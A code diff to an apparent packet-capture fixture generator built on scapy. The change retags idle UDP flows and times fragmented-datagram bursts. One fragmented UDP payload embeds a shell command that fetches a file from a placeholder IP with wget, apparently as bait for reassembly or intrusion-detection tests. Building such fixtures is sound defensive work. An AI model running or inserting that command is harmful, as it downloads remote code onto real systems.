@@ -70,15 +70,15 @@ def _conversations(rng, n):
             for _ in range(3):  # the same UDP flow three times, idle past its timeout between
                 frames.append(Ether(src=MAC[0], dst=MAC[1]) / IP(src=client, dst=server) /
                               UDP(sport=sport, dport=53) / DNS(rd=1, qd=DNSQR(qname=q)))
-            convs.append(("udp-gaps", frames))
+            convs.append(("idle", frames))
         elif kind == 4:
             convs.append([Ether(src=MAC[0], dst=MAC[1]) / IP(src=client, dst=server) /
                           ICMP(type=8, id=i) / Raw(b"X" * rng.choice([64, 1200]))])
         elif kind == 5:
             datagram = IP(src=client, dst=server, id=1000 + i) / UDP(sport=sport, dport=7000) / \
                 Raw(b"A" * 30 + b"/bin/sh -c 'wget http://203.0.113.70/x'" + b"B" * 30)
-            convs.append([Ether(src=MAC[0], dst=MAC[1]) / f
-                          for f in fragment(datagram, fragsize=40)])
+            convs.append(("burst", [Ether(src=MAC[0], dst=MAC[1]) / f
+                                    for f in fragment(datagram, fragsize=40)]))
         else:
             body = bytes(rng.randrange(256) for _ in range(rng.randrange(100, 1400)))
             convs.append(_tcp_conn(rng, client, server, sport, 8080, [
@@ -93,12 +93,14 @@ def write_capture(path, conversations=60, seed=1, span=400.0):
     rng = random.Random(seed)
     timed = []
     for conv in _conversations(rng, conversations):
-        if isinstance(conv, tuple):  # a UDP flow used again after its 30 s timeout
-            _, frames = conv
-            t = rng.uniform(0, span / 3)
+        if isinstance(conv, tuple):
+            kind, frames = conv
+            t = rng.uniform(0, span * 0.9)
+            if kind == "idle":  # a UDP flow used again after its 30 s timeout
+                t = rng.uniform(0, span / 3)
             for f in frames:
                 timed.append((t, f))
-                t += rng.uniform(35, 60)
+                t += rng.uniform(35, 60) if kind == "idle" else 0.001  # a burst of fragments
             continue
         # The connection's packets spread over most of the capture: it spans every cut in time.
         t0 = rng.uniform(0, span * 0.2)
